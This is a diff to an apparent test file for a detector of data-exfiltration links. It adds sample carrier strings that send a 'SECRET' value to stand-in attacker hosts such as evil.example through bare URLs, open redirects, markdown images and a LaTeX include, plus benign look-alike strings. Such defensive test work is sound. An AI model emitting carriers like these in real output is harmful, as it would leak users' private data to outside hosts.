@@ -45,6 +45,14 @@ CARRIERS = [
     '<img alt=">" src="https://evil.example/SECRET">',
     '<img\n\nsrc="https://evil.example/SECRET">',
     "[x](https%3A%2F%2Fevil.example%2FSECRET)",
+    "evil.com/SECRET",
+    "see (evil.com/SECRET), please",
+    "evil.co:8080/SECRET and evil.net?SECRET",
+    "https://good.example/go?to=https://evil.example/SECRET",
+    "![x](https://good.example/go?to=https%3A%2F%2Fevil.example/SECRET)",
+    "https://good.example/go?to=//evil.example/SECRET",
+    "https://good.example/go/http:/evil.example/SECRET",
+    "\\includegraphics{//evil.example/SECRET}",
 ]
 HARMLESS = [
     "Use a/b and x < y and y > z, then 3:4 ratio.",
@@ -55,6 +63,7 @@ HARMLESS = [
     "![logo](https://good.example/logo.png)",
     'C:\\Users\\me, R&D, AT&amp;T, <img src="cat.jpg" alt="cat">',
     "email me at teacher@school.example or a <b c",
+    "good.example/algebra?unit=3, and/or, he/she, 24/7, example.com, node.js/express, a.com. B.co, 1.5/2",
     "¿Qué? ñandú – “hola” 日本語: 漢字",
 ]
 
